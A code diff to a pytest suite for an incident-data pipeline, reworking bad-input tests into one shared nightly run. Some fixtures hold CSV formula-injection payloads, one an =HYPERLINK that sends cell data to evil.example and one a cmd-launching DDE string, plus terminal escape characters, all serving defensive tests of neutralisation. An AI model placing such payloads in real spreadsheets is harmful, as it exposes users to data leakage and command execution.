@@ -18,6 +18,7 @@ from __future__ import annotations
 
 import csv
 import io
+import itertools
 import json
 import os
 import re
@@ -100,6 +101,11 @@ def csv_bytes(columns: list[str], rows: list[dict[str, str]], bom: bool = True) 
     writer.writeheader()
     writer.writerows(rows)
     return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")
+
+
+# Every case's file lands beside the others' in one run: each takes references of its own.
+FRESH_CST_REFS = itertools.count(91001, 10)
+FRESH_GMP_REFS = itertools.count(191001, 10)
 
 
 def cst_rows(count: int = 4, first: int = 90001) -> tuple[list[str], list[dict[str, str]]]:
@@ -216,7 +222,7 @@ def undecodable_encoding() -> Case:
 
 
 def missing_required_column() -> Case:
-    columns, rows = gmp_rows(3)
+    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
     rows = [planted_gmp(r) for r in rows]
     columns = [c for c in columns if c != "RECORD_STATUS"]
     return Case("police/gmp/gmp_antisemitic_crimes_20261026.csv", csv_bytes(columns, rows, bom=False), [
@@ -225,7 +231,7 @@ def missing_required_column() -> Case:
 
 
 def not_a_spreadsheet() -> Case:
-    columns, rows = gmp_rows(2)
+    columns, rows = gmp_rows(2, first=next(FRESH_GMP_REFS))
     data = csv_bytes(columns, [planted_gmp(r) for r in rows], bom=False)
     return Case("police/mps/MPS_Antisemitic_2026_11.xlsx", data, [
         (None, "is_spreadsheet", "the file is not an XLSX workbook (it looks like text or unknown binary data)"),
@@ -244,7 +250,7 @@ def header_only() -> Case:
 
 
 def truncated_mid_row() -> Case:
-    columns, rows = gmp_rows(3)
+    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
     rows[2] = planted_gmp(rows[2]) | {"VICTIM_NAME": f"ZABRISKIE, Quentin {PHONE}"}
     data = csv_bytes(columns, rows, bom=False)
     cut = data.index(b"ZABRISKIE, Quentin") + len("ZABRISKIE, Quentin 07700 9004")  # inside the quotes
@@ -275,7 +281,7 @@ def junk() -> Case:
 
 def bad_cst_row(**values: str) -> Callable[[], bytes]:
     def build() -> bytes:
-        columns, rows = cst_rows(4)
+        columns, rows = cst_rows(4, first=next(FRESH_CST_REFS))
         rows[1] = planted_cst(rows[1]) | values
         return csv_bytes(columns, rows)
     return build
@@ -313,7 +319,7 @@ def bad_postcode() -> Case:
 
 
 def unordered_range() -> Case:
-    columns, rows = gmp_rows(3)
+    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
     rows[1] = planted_gmp(rows[1]) | {"COMMITTED_FROM": "2026-10-23 21:00:00", "COMMITTED_TO": "2026-10-22 21:00:00"}
     return Case("police/gmp/gmp_antisemitic_crimes_20261102.csv", csv_bytes(columns, rows, bom=False), [
         (2, "occurred_range_ordered", "column 'COMMITTED_TO' is before column 'COMMITTED_FROM'"),
@@ -321,7 +327,7 @@ def unordered_range() -> Case:
 
 
 def duplicate_ref() -> Case:
-    columns, rows = gmp_rows(3)
+    columns, rows = gmp_rows(3, first=next(FRESH_GMP_REFS))
     rows[0] = planted_gmp(rows[0])
     rows[2] = planted_gmp(rows[2]) | {"CRIME_REF": rows[0]["CRIME_REF"]}
     reason = "the reference in column 'CRIME_REF' appears more than once in this file"
@@ -334,7 +340,7 @@ def unknown_offence_code() -> Case:
     rows = mps_rows(3)
     rows[1] |= {"Offence Sub Type": "ZZ9", "Victim Surname": "Zabriskie", "Victim Forename": "Quentin",
                 "Summary": f"IP {NAME} TEL {PHONE}."}
-    return Case("police/mps/MPS_Antisemitic_2026_11.xlsx", mps_workbook(rows), [
+    return Case("police/mps/MPS_Antisemitic_2026_12.xlsx", mps_workbook(rows), [
         (2, "offence_code_known", "column 'Offence Sub Type' is not a known Home Office offence code"),
     ], {"mps": 2})
 
@@ -428,33 +434,7 @@ def assert_nowhere(values: list[str], *roots: Path) -> None:
                     con.close()
 
 
-def check(case: Case, area: dict[str, Path], summary: RunSummary) -> None:
-    home = area["home"]
-    expected = [(case.source, case.key, row, rule, reason) for row, rule, reason in case.expected]
-    assert open_quarantine(home) == expected
-    want = dict(GOOD_COUNTS)
-    for source, extra in case.loaded.items():
-        want[source] += extra
-    assert loaded_counts(home) == want
-    status = query(home, "select status from manifest where file_key = ?", [case.key])
-    assert status == [("quarantined" if case.whole_file else "loaded",)]
-    assert summary.files_quarantined == int(case.whole_file)
-    assert summary.files_ingested == len(GOOD_FILES) + 1
-    assert (home / "reports" / "validation" / summary.run_id / "index.html").exists()
-    assert_nowhere(case.planted, home, area["prefect"])
-
-
-@pytest.mark.parametrize("build", FILE_LEVEL + ROW_LEVEL, ids=lambda f: f.__name__)
-def test_bad_input_is_quarantined_and_the_rest_loads(build, area):
-    case = build()
-    path = area["landing"] / case.key
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_bytes(case.data)
-    summary = run()
-    check(case, area, summary)
-
-
-def test_formula_injection_is_stored_as_text_and_neutralised_on_export(area):
+def formula_injection() -> Case:
     columns, rows = cst_rows(3, first=90101)
     rows[1] = planted_cst(rows[1]) | {
         "Town": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -462,34 +442,96 @@ def test_formula_injection_is_stored_as_text_and_neutralised_on_export(area):
         "Description": "@SUM(1+1)*cmd|' /C calc'!A0 then they left",
         "Police Force Area": "-2+3",
     }
-    (area["landing"] / "cst" / "cst_incidents_20261114.csv").write_bytes(csv_bytes(columns, rows))
-    summary = run()
-    home = area["home"]
-    assert open_quarantine(home) == []
-    assert loaded_counts(home) == GOOD_COUNTS | {"cst": 8}
-    stored = query(home, "select town, offender_description_redacted, description_redacted "
-                         "from stg_cst_report_versions where town like '=%'")
-    assert len(stored) == 1 and stored[0][0].lower().startswith("=hyperlink(")
-    exported = spreadsheet_safe(pl.DataFrame([stored[0]], schema=["town", "offender", "description"], orient="row"))
-    assert all(value is None or value[0] not in "=+-@" for value in exported.row(0))
-    assert exported["town"][0].startswith("'=")
-    assert summary.files_quarantined == 0
-    assert_nowhere(PLANTED, home, area["prefect"])
+    return Case("cst/cst_incidents_20261114.csv", csv_bytes(columns, rows), [], {"cst": 3})
 
 
-def test_control_characters_are_cleaned(area):
+def control_characters() -> Case:
     columns, rows = cst_rows(3, first=90201)
     rows[1] = planted_cst(rows[1]) | {
         "Town": "Sal\x07ford\x1b[2J\u202e",
         "Offender Description": "white\x0b male\x7f in his 20s\x85",
         "Category": "Abusive\x0c Behaviour",
     }
-    (area["landing"] / "cst" / "cst_incidents_20261115.csv").write_bytes(csv_bytes(columns, rows))
-    run()
-    home = area["home"]
-    assert open_quarantine(home) == []
-    assert loaded_counts(home) == GOOD_COUNTS | {"cst": 8}
-    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
+    return Case("cst/cst_incidents_20261115.csv", csv_bytes(columns, rows), [], {"cst": 3})
+
+
+CLEAN_BUT_HOSTILE = [formula_injection, control_characters]
+ALL_CASES = FILE_LEVEL + ROW_LEVEL + CLEAN_BUT_HOSTILE
+
+
+@pytest.fixture(scope="module")
+def night_of_bad_files(tmp_path_factory: pytest.TempPathFactory, prefect_home: Path) -> dict:
+    """Every case's file in one landing area beside the good samples, and ONE nightly run.
+
+    Each file is validated and quarantined on its own (the product's promise), so one run
+    serves every case and the cases also check that bad files do not disturb each other.
+    """
+    root = tmp_path_factory.mktemp("bad_input")
+    landing, home = root / "landing", root / "home"
+    for key in GOOD_FILES:
+        (landing / key).parent.mkdir(parents=True, exist_ok=True)
+        shutil.copyfile(SAMPLES / key, landing / key)
+    cases = {build.__name__: build() for build in ALL_CASES}
+    assert len({case.key for case in cases.values()}) == len(cases), "each case needs a file name of its own"
+    for case in cases.values():
+        (landing / case.key).parent.mkdir(parents=True, exist_ok=True)
+        (landing / case.key).write_bytes(case.data)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("INCIDENTS_LANDING", str(landing))
+        patch.setenv("INCIDENTS_HOME", str(home))
+        patch.delenv("INCIDENTS_CONFIG", raising=False)
+        patch.chdir(root)
+        summary = run()
+    return {"cases": cases, "summary": summary, "home": home, "prefect": prefect_home}
+
+
+def loaded_rows_of(home: Path, file_key: str) -> dict[str, int]:
+    rows = query(
+        home,
+        "select 'cst', count(*) from stg_cst_report_versions v join manifest m using (file_hash) "
+        "where m.file_key = ? group by all having count(*) > 0 union all "
+        "select v.force_id, count(*) from stg_police_crime_versions v join manifest m using (file_hash) "
+        "where m.file_key = ? group by all having count(*) > 0",
+        [file_key, file_key],
+    )
+    return dict(rows)
+
+
+@pytest.mark.parametrize("build", ALL_CASES, ids=lambda f: f.__name__)
+def test_bad_input_is_quarantined_and_the_rest_loads(build, night_of_bad_files):
+    case, home = night_of_bad_files["cases"][build.__name__], night_of_bad_files["home"]
+    expected = [(case.source, case.key, row, rule, reason) for row, rule, reason in case.expected]
+    assert [entry for entry in open_quarantine(home) if entry[1] == case.key] == expected
+    assert loaded_rows_of(home, case.key) == case.loaded
+    status = query(home, "select status from manifest where file_key = ?", [case.key])
+    assert status == [("quarantined" if case.whole_file else "loaded",)]
+
+
+def test_one_night_of_bad_files_loads_all_the_good_rows_and_leaks_nothing(night_of_bad_files):
+    cases, summary, home = night_of_bad_files["cases"].values(), night_of_bad_files["summary"], night_of_bad_files["home"]
+    want = dict(GOOD_COUNTS)
+    for case in cases:
+        for source, extra in case.loaded.items():
+            want[source] += extra
+    assert loaded_counts(home) == want
+    assert len(open_quarantine(home)) == sum(len(case.expected) for case in cases)
+    assert summary.files_quarantined == sum(case.whole_file for case in cases)
+    assert summary.files_ingested == len(GOOD_FILES) + len(cases)
+    assert (home / "reports" / "validation" / summary.run_id / "index.html").exists()
+    assert_nowhere(sorted({value for case in cases for value in case.planted}), home, night_of_bad_files["prefect"])
+
+
+def test_formula_injection_is_stored_as_text_and_neutralised_on_export(night_of_bad_files):
+    stored = query(night_of_bad_files["home"], "select town, offender_description_redacted, description_redacted "
+                                               "from stg_cst_report_versions where town like '=%'")
+    assert len(stored) == 1 and stored[0][0].lower().startswith("=hyperlink(")
+    exported = spreadsheet_safe(pl.DataFrame([stored[0]], schema=["town", "offender", "description"], orient="row"))
+    assert all(value is None or value[0] not in "=+-@" for value in exported.row(0))
+    assert exported["town"][0].startswith("'=")
+
+
+def test_control_characters_are_cleaned(night_of_bad_files):
+    con = duckdb.connect(str(night_of_bad_files["home"] / "warehouse.duckdb"), read_only=True)
     try:
         for table in ("stg_cst_report_versions", "stg_police_crime_versions"):
             for (column,) in con.execute(
@@ -502,7 +544,6 @@ def test_control_characters_are_cleaned(area):
         assert any(t.lower().startswith("salford[2j") for t in towns if t)
     finally:
         con.close()
-    assert_nowhere(PLANTED, home, area["prefect"])
 
 
 def test_a_file_no_source_can_read_is_contained(area, monkeypatch):
